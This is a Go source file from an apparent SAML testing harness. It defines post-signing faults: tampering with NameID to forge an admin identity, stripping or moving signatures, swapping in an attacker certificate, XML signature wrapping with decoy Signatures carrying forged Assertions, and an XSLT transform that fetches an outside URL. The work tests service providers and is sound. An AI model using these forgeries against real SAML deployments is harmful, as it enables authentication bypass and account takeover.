package fault

import (
	"encoding/base64"
	"fmt"
	"strings"

	"github.com/beevik/etree"
	"github.com/samlharness/samlharness/internal/wire"
)

// Post-sign faults on signed content and on the signatures themselves
// (catalogue §5, §2.2 reference confusion). Tampering faults leave the
// signature unverifiable; reference-shape faults re-sign SignedInfo through
// the IdP's Signer so the SignatureValue verifies and only the shape is
// wrong.

const (
	algXPath    = "http://www.w3.org/TR/1999/REC-xpath-19991116"
	algXSLT     = "http://www.w3.org/TR/1999/REC-xslt-19991116"
	algBase64   = "http://www.w3.org/2000/09/xmldsig#base64"
	algXPath2   = "http://www.w3.org/2002/06/xmldsig-filter2"
	algXPointer = "http://www.w3.org/2001/04/xmldsig-more/xptr"
)

// signedElement is a signed Response or Assertion with its enveloped
// signature.
type signedElement struct {
	el, sig *etree.Element
	kind    string // "response" or "assertion"
}

// signedTargets returns the signed Response and/or first Assertion named by
// which ("both": each one that is signed; at least one must be).
func signedTargets(c *Context, which string) ([]signedElement, error) {
	resp, err := response(c)
	if err != nil {
		return nil, err
	}
	wantR, wantA, err := whichTargets(which)
	if err != nil {
		return nil, err
	}
	var out []signedElement
	if wantR {
		if sig := signatureOf(resp); sig != nil {
			out = append(out, signedElement{resp, sig, "response"})
		} else if !wantA {
			return nil, fmt.Errorf("the Response is not signed")
		}
	}
	if wantA {
		a := child(resp, wire.NSAssertion, "Assertion")
		if sig := signatureOf(a); sig != nil {
			out = append(out, signedElement{a, sig, "assertion"})
		} else if !wantR {
			return nil, fmt.Errorf("the Assertion is not signed (or absent)")
		}
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("neither the Response nor the Assertion is signed")
	}
	return out, nil
}

// otherID returns the ID of the other signable element (the Assertion's for
// the Response, the Response's for the Assertion).
func otherID(c *Context, kind string) string {
	resp, err := response(c)
	if err != nil {
		return ""
	}
	if kind == "response" {
		return idOf(child(resp, wire.NSAssertion, "Assertion"))
	}
	return idOf(resp)
}

// idOf returns el's ID attribute ("" for nil or no ID).
func idOf(el *etree.Element) string {
	if el == nil {
		return ""
	}
	return el.SelectAttrValue("ID", "")
}

func dsChild(el *etree.Element, local string) *etree.Element { return child(el, wire.NSDSig, local) }

// firstReference returns sig/SignedInfo/Reference.
func firstReference(sig *etree.Element) (*etree.Element, error) {
	ref := dsChild(dsChild(sig, "SignedInfo"), "Reference")
	if ref == nil {
		return nil, fmt.Errorf("the signature has no SignedInfo/Reference")
	}
	return ref, nil
}

// eachReference calls fn with the first Reference of each signature the
// "which" parameter selects (see signedTargets).
func eachReference(c *Context, which string, fn func(t signedElement, ref *etree.Element) error) error {
	targets, err := signedTargets(c, which)
	if err != nil {
		return err
	}
	for _, t := range targets {
		ref, err := firstReference(t.sig)
		if err != nil {
			return err
		}
		if err := fn(t, ref); err != nil {
			return err
		}
	}
	return nil
}

// resign recomputes the SignatureValue over the edited SignedInfo.
func resign(c *Context, sig *etree.Element) error {
	if c.Signer == nil {
		return fmt.Errorf("re-signing SignedInfo needs Context.Signer")
	}
	p := SignPlan{}
	if c.Plan != nil {
		p = *c.Plan
	}
	return c.Signer.ResignSignedInfo(sig, p)
}

// flipBase64 decodes v, flips the low bit of byte i (negative: from the
// end) and re-encodes it; undecodable input gets a character changed.
func flipBase64(v string, i int) string {
	b, err := base64.StdEncoding.DecodeString(strings.Join(strings.Fields(v), ""))
	if err != nil || len(b) == 0 {
		return "A" + v
	}
	if i < 0 {
		i += len(b)
	}
	b[i] ^= 0x01
	return base64.StdEncoding.EncodeToString(b)
}

func init() {
	registerAll(
		tamperNameidFault,
		tamperAttrFault,
		tamperDigestValueFault,
		tamperSignatureValueFault,
		stripSignatureFault,
		moveSignatureFault,
		swapKeyinfoCertFault,
		referenceUriFault,
		extraReferenceFault,
		extraSignedinfoFault,
		extraSignatureFault,
		extraTransformFault,
	)
}

func tamperNameidFault() Spec {
	return Spec{
		Name: "tamper-nameid", Stage: StagePostSign,
		Summary: "change the Assertion's NameID after signing (sig-tamper-after-signing)",
		Params:  []ParamSpec{{Name: "value", Summary: "new NameID; default the forged identity admin@<domain>"}},
		Apply:   applyTamperNameid,
	}
}

func applyTamperNameid(c *Context, f Fault) error {
	a, err := firstAssertion(c)
	if err != nil {
		return err
	}
	n := nameIDOf(a)
	if n == nil {
		return fmt.Errorf("the Assertion has no NameID")
	}
	v := f.Param("value", "")
	if v == "" {
		v = forgedIdentity(Fault{}, n.Text())
	}
	setText(n, v)
	return nil
}

func tamperAttrFault() Spec {
	return Spec{
		Name: "tamper-attr", Stage: StagePostSign,
		Summary: "set an attribute of a signed element after signing, e.g. Conditions NotOnOrAfter (same as set-attr-after-sign)",
		Params:  editorNamed("set-attr").params, Apply: editorNamed("set-attr").apply,
	}
}

func tamperDigestValueFault() Spec {
	return Spec{
		Name: "tamper-digest-value", Stage: StagePostSign,
		Summary: "flip one bit of the Reference DigestValue (sig-tamper-after-signing: digest mismatch)",
		Params:  []ParamSpec{whichParam("both")},
		Apply:   applyTamperDigestValue,
	}
}

func applyTamperDigestValue(c *Context, f Fault) error {
	return eachReference(c, f.Param("which", ""), func(t signedElement, ref *etree.Element) error {
		dv := dsChild(ref, "DigestValue")
		if dv == nil {
			return fmt.Errorf("the %s signature has no DigestValue", t.kind)
		}
		setText(dv, flipBase64(dv.Text(), 0))
		return nil
	})
}

func tamperSignatureValueFault() Spec {
	return Spec{
		Name: "tamper-signature-value", Stage: StagePostSign,
		Summary: "break the SignatureValue: flip one bit, empty it or make it whitespace (sig-empty-signaturevalue), or make it non-base64",
		Params: []ParamSpec{whichParam("both"),
			{Name: "mode", Default: "flip", Values: []string{"flip", "empty", "whitespace", "garbage"}, Summary: "how to break it"}},
		Apply: applyTamperSignatureValue,
	}
}

func applyTamperSignatureValue(c *Context, f Fault) error {
	targets, err := signedTargets(c, f.Param("which", ""))
	if err != nil {
		return err
	}
	for _, t := range targets {
		sv := dsChild(t.sig, "SignatureValue")
		if sv == nil {
			return fmt.Errorf("the %s signature has no SignatureValue", t.kind)
		}
		switch f.Param("mode", "flip") {
		case "flip":
			setText(sv, flipBase64(sv.Text(), -1))
		case "empty":
			setText(sv, "")
		case "whitespace":
			setText(sv, " \n\t ")
		case "garbage":
			setText(sv, "!!not-base64!!")
		}
	}
	return nil
}

func stripSignatureFault() Spec {
	return Spec{
		Name: "strip-signature", Stage: StagePostSign,
		Summary: "remove the signature(s) after signing (sig-strip-all; FusionAuth CVE-2020-12676 signature exclusion)",
		Params:  []ParamSpec{whichParam("both")},
		Apply:   applyStripSignature,
	}
}

func applyStripSignature(c *Context, f Fault) error {
	targets, err := signedTargets(c, f.Param("which", ""))
	if err != nil {
		return err
	}
	for _, t := range targets {
		t.el.RemoveChild(t.sig)
	}
	return nil
}

func moveSignatureFault() Spec {
	return Spec{
		Name: "move-signature", Stage: StagePostSign, Resigns: true,
		Summary: "move a signature, unchanged, to the other element: the Assertion's signature to Response level, or the Response's into the Assertion (xsw-signature-scope-by-position, sig-signature-in-wrong-parent; Keycloak CVE-2024-8698). The SignatureValue and digest stay valid for the element the Reference names",
		Params: []ParamSpec{
			{Name: "from", Default: "assertion", Values: []string{"assertion", "response"}, Summary: "whose signature moves"},
			{Name: "position", Default: "after-issuer", Values: []string{"after-issuer", "last-child"},
				Summary: "where it goes in the other element"}},
		Apply: applyMoveSignature,
	}
}

func applyMoveSignature(c *Context, f Fault) error {
	resp, err := response(c)
	if err != nil {
		return err
	}
	a := child(resp, wire.NSAssertion, "Assertion")
	if a == nil {
		return fmt.Errorf("the Response has no Assertion")
	}
	src, dst := a, resp
	if f.Param("from", "assertion") == "response" {
		src, dst = resp, a
	}
	sig := signatureOf(src)
	if sig == nil {
		return fmt.Errorf("the %s is not signed", src.Tag)
	}
	sig = detach(sig)
	if f.Param("position", "after-issuer") == "last-child" {
		dst.AddChild(sig)
	} else {
		insertAfterIssuer(dst, sig)
	}
	return nil
}

func swapKeyinfoCertFault() Spec {
	return Spec{
		Name: "swap-keyinfo-cert", Stage: StagePostSign, Resigns: true,
		Summary: "replace the KeyInfo certificate by another one, signature unchanged: the SP must verify with its pinned certificate, never KeyInfo's (sig-keyinfo-attacker-cert)",
		Params: []ParamSpec{whichParam("both"),
			{Name: "cert", Default: "attacker", Values: []string{"attacker", KeyRotated, KeyWeak1024},
				Summary: "whose certificate goes in KeyInfo (from the IdP's Signer)"}},
		Apply: applySwapKeyinfoCert,
	}
}

func applySwapKeyinfoCert(c *Context, f Fault) error {
	if c.Signer == nil {
		return fmt.Errorf("swap-keyinfo-cert needs Context.Signer for the certificate")
	}
	cert := c.Signer.Certificate(SignPlan{Key: f.Param("cert", "attacker")})
	if cert == nil {
		return fmt.Errorf("the Signer has no certificate for key %q", f.Param("cert", ""))
	}
	targets, err := signedTargets(c, f.Param("which", ""))
	if err != nil {
		return err
	}
	for _, t := range targets {
		ki := dsChild(t.sig, "KeyInfo")
		if ki == nil {
			ki = newElement(t.sig, wire.NSDSig, "KeyInfo")
			t.sig.AddChild(ki)
		}
		for _, ch := range ki.ChildElements() {
			ki.RemoveChild(ch)
		}
		xd := newElement(ki, wire.NSDSig, "X509Data")
		ki.AddChild(xd)
		xc := newElement(xd, wire.NSDSig, "X509Certificate")
		xc.SetText(base64.StdEncoding.EncodeToString(cert.Raw))
		xd.AddChild(xc)
	}
	return nil
}

func referenceUriFault() Spec {
	return Spec{
		Name: "reference-uri", Stage: StagePostSign, Resigns: true,
		Summary: "rewrite the Reference URI and re-sign SignedInfo, so only the reference is wrong: \"\" (xsw-reference-uri-empty, goxmldsig accepts it), x{ID} (xsw-reference-uri-first-char), #{OTHER} or any other URI",
		Params: []ParamSpec{whichParam("assertion"),
			{Name: "value", Summary: "the new URI (default empty); {ID} is the signed element's ID, {OTHER} the other element's (Assertion's for the Response signature and vice versa)"}},
		Apply: applyReferenceUri,
	}
}

func applyReferenceUri(c *Context, f Fault) error {
	return eachReference(c, f.Param("which", ""), func(t signedElement, ref *etree.Element) error {
		uri := strings.NewReplacer("{ID}", idOf(t.el), "{OTHER}", otherID(c, t.kind)).Replace(f.Param("value", ""))
		ref.CreateAttr("URI", uri)
		return resign(c, t.sig)
	})
}

func extraReferenceFault() Spec {
	return Spec{
		Name: "extra-reference", Stage: StagePostSign, Resigns: true,
		Summary: "add a second Reference (a copy of the first with another URI) to SignedInfo and re-sign it (xsw-goxmldsig-multi-reference, CVE-2026-33487): the SP must require exactly one",
		Params: []ParamSpec{whichParam("assertion"),
			{Name: "uri", Summary: "the extra Reference's URI; default #{OTHER}, the other element's ID (or #_evil_assertion_ID when there is none)"},
			{Name: "position", Default: "last", Values: []string{"first", "last"}, Summary: "before or after the genuine Reference"}},
		Apply: applyExtraReference,
	}
}

func applyExtraReference(c *Context, f Fault) error {
	return eachReference(c, f.Param("which", ""), func(t signedElement, ref *etree.Element) error {
		uri := f.Param("uri", "")
		if uri == "" {
			uri = "#" + otherID(c, t.kind)
			if uri == "#" {
				uri = "#" + evilAssertionID
			}
		}
		uri = strings.NewReplacer("{ID}", idOf(t.el), "{OTHER}", otherID(c, t.kind)).Replace(uri)
		extra := ref.Copy()
		extra.CreateAttr("URI", uri)
		if f.Param("position", "last") == "first" {
			insertBefore(ref, extra)
		} else {
			insertAfter(ref, extra)
		}
		return resign(c, t.sig)
	})
}

func extraSignedinfoFault() Spec {
	return Spec{
		Name: "extra-signedinfo", Stage: StagePostSign, Resigns: true,
		Summary: "add a second SignedInfo whose Reference points elsewhere (sig-multiple-signedinfo, xmlseclibs CVE-2019-3465); the SignatureValue still verifies over the genuine, first SignedInfo",
		Params: []ParamSpec{whichParam("assertion"),
			{Name: "uri", Default: "#" + evilAssertionID, Summary: "the extra SignedInfo's Reference URI"},
			{Name: "position", Default: "after", Values: []string{"after", "before"}, Summary: "after or before the genuine SignedInfo"}},
		Apply: applyExtraSignedinfo,
	}
}

func applyExtraSignedinfo(c *Context, f Fault) error {
	targets, err := signedTargets(c, f.Param("which", ""))
	if err != nil {
		return err
	}
	for _, t := range targets {
		si := dsChild(t.sig, "SignedInfo")
		if si == nil {
			return fmt.Errorf("the %s signature has no SignedInfo", t.kind)
		}
		extra := detachedCopy(si)
		if ref := dsChild(extra, "Reference"); ref != nil {
			ref.CreateAttr("URI", f.Param("uri", ""))
		}
		if f.Param("position", "after") == "before" {
			insertBefore(si, extra)
		} else {
			insertAfter(si, extra)
		}
	}
	return nil
}

func extraSignatureFault() Spec {
	return Spec{
		Name: "extra-signature", Stage: StagePostSign, Resigns: true,
		Summary: "add a decoy ds:Signature next to the genuine one: same SignedInfo and SignatureValue, plus a ds:Object carrying a forged, unsigned Assertion (xsw-decoy-signature-same-signaturevalue, OneUptime #2981): the SP must refuse more than one Signature",
		Params: []ParamSpec{whichParam("response"), nameIDParam,
			{Name: "position", Default: "after", Values: []string{"after", "last-child"},
				Summary: "right after the genuine signature, or as the signed element's last child"}},
		Apply: applyExtraSignature,
	}
}

func applyExtraSignature(c *Context, f Fault) error {
	targets, err := signedTargets(c, f.Param("which", ""))
	if err != nil {
		return err
	}
	var forged *etree.Element
	if a, err := firstAssertion(c); err == nil {
		orig := nameIDOf(a).Text()
		forged = forgedCopy(a, orig, forgedIdentity(f, orig))
	} else if len(c.removedAssertions) > 0 {
		orig := nameIDOf(c.removedAssertions[0]).Text()
		forged = forgedCopy(c.removedAssertions[0], orig, forgedIdentity(f, orig))
	} else {
		return fmt.Errorf("no Assertion to forge for the decoy's ds:Object")
	}
	forged.CreateAttr("ID", evilAssertionID)
	for i, t := range targets {
		decoy := detachedCopy(t.sig)
		obj := newElement(decoy, wire.NSDSig, "Object")
		decoy.AddChild(obj)
		fa := forged
		if i > 0 {
			fa = forged.Copy()
		}
		obj.AddChild(fa)
		if f.Param("position", "after") == "last-child" {
			t.el.AddChild(decoy)
		} else {
			insertAfter(t.sig, decoy)
		}
	}
	return nil
}

func extraTransformFault() Spec {
	return Spec{
		Name: "extra-transform", Stage: StagePostSign, Resigns: true,
		Summary: "add a Transform (XPath, XSLT, base64, XPath-Filter2, XPointer or any URI) to the Reference and re-sign SignedInfo (sig-unknown-transform, xslt-transform-in-signature, xpath-transform-dos): the SP must refuse it before running it",
		Params: []ParamSpec{whichParam("assertion"),
			{Name: "alg", Default: "xpath", Summary: "xpath, xslt, base64, xpath-filter2, xpointer or a Transform URI"},
			{Name: "url", Summary: "xslt only: a URL the stylesheet dereferences with document(), so a harness can see whether the SP ran it (default: none, an identity stylesheet)"},
			{Name: "position", Default: "before-c14n", Values: []string{"before-c14n", "last", "first"},
				Summary: "where among the existing Transforms"}},
		Apply: applyExtraTransform,
	}
}

func applyExtraTransform(c *Context, f Fault) error {
	return eachReference(c, f.Param("which", ""), func(t signedElement, ref *etree.Element) error {
		transforms := dsChild(ref, "Transforms")
		if transforms == nil {
			transforms = newElement(ref, wire.NSDSig, "Transforms")
			ref.InsertChildAt(0, transforms)
		}
		tr, err := transformElement(transforms, f.Param("alg", ""), f.Param("url", ""))
		if err != nil {
			return err
		}
		existing := children(transforms, wire.NSDSig, "Transform")
		switch f.Param("position", "before-c14n") {
		case "first":
			transforms.InsertChildAt(0, tr)
		case "last":
			transforms.AddChild(tr)
		default:
			placed := false
			for _, e := range existing {
				if strings.HasPrefix(e.SelectAttrValue("Algorithm", ""), wire.AlgExcC14N) {
					insertBefore(e, tr)
					placed = true
					break
				}
			}
			if !placed {
				transforms.AddChild(tr)
			}
		}
		return resign(c, t.sig)
	})
}

// transformElement builds a ds:Transform for alg under parent.
func transformElement(parent *etree.Element, alg, url string) (*etree.Element, error) {
	tr := newElement(parent, wire.NSDSig, "Transform")
	switch alg {
	case "xpath":
		tr.CreateAttr("Algorithm", algXPath)
		xp := newElement(tr, wire.NSDSig, "XPath")
		xp.SetText("not(ancestor-or-self::ds:Signature)")
		tr.AddChild(xp)
	case "xpath-filter2":
		tr.CreateAttr("Algorithm", algXPath2)
		xp := etree.NewElement("XPath")
		xp.Space = "dsig-xpath"
		xp.CreateAttr("xmlns:dsig-xpath", algXPath2)
		xp.CreateAttr("Filter", "intersect")
		xp.SetText("//. | //@* | //namespace::*")
		tr.AddChild(xp)
	case "xslt":
		tr.CreateAttr("Algorithm", algXSLT)
		body := `<xsl:template match="@*|node()"><xsl:copy><xsl:apply-templates select="@*|node()"/></xsl:copy></xsl:template>`
		if url != "" {
			body = `<xsl:template match="/"><xsl:value-of select="document('` + xmlAttrEscape(url) + `')"/></xsl:template>`
		}
		tokens, err := parseSnippet(`<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">` + body + `</xsl:stylesheet>`)
		if err != nil {
			return nil, err
		}
		for _, t := range tokens {
			tr.AddChild(t)
		}
	case "base64":
		tr.CreateAttr("Algorithm", algBase64)
	case "xpointer":
		tr.CreateAttr("Algorithm", algXPointer)
	default:
		if !strings.Contains(alg, ":") {
			return nil, fmt.Errorf("alg %q is not a Transform URI or xpath, xslt, base64, xpath-filter2, xpointer", alg)
		}
		tr.CreateAttr("Algorithm", alg)
	}
	return tr, nil
}

// xmlAttrEscape escapes a value for a single-quoted XPath string inside an
// XML attribute.
func xmlAttrEscape(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", `"`, "&quot;", "'", "").Replace(s)
}
